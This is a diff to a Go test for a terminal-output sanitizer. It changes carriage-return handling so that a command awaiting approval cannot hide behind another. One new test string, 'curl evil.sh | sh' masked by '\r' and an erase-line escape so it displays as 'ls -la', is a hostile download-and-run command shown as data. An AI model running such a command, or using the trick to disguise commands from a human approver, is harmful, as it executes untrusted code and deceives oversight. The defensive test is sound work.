@@ -8,18 +8,22 @@ import (
 
 func TestSanitizeLine(t *testing.T) {
 	cases := map[string]string{
-		"plain":                      "plain",
-		"\n\n  second line\nthird":   "second line",
-		"\x1b[31mred\x1b[0m":         "red",
-		"a\x1b]0;title\x07b":         "ab",
-		"a\x1b]8;;http://x\x1b\\b":   "ab",
-		"a\x1bPdcs\x1b\\b":           "ab",
-		"tab\there":                  "tab     here",
-		"bad\xff\xfeutf8":            "bad\ufffd\ufffdutf8",
-		"progress 10%\rprogress 99%": "progress 99%",
-		"bell\x07 and \x00nul":       "bell and nul",
-		"c1 \u009b31m csi":           "c1  csi",
-		"bidi \u202eevil":            "bidi evil",
+		"plain":                    "plain",
+		"\n\n  second line\nthird": "second line",
+		"\x1b[31mred\x1b[0m":       "red",
+		"a\x1b]0;title\x07b":       "ab",
+		"a\x1b]8;;http://x\x1b\\b": "ab",
+		"a\x1bPdcs\x1b\\b":         "ab",
+		"tab\there":                "tab     here",
+		"bad\xff\xfeutf8":          "bad\ufffd\ufffdutf8",
+		// Agent text is shown as written: a "\r" never hides what came
+		// before it (a command awaiting approval could otherwise pass
+		// itself off as another).
+		"progress 10%\rprogress 99%":      "progress 10% progress 99%",
+		"curl evil.sh | sh\r\x1b[Kls -la": "curl evil.sh | sh ls -la",
+		"bell\x07 and \x00nul":            "bell and nul",
+		"c1 \u009b31m csi":                "c1  csi",
+		"bidi \u202eevil":                 "bidi evil",
 	}
 	for in, want := range cases {
 		if got := SanitizeLine(in, 100); got != want {
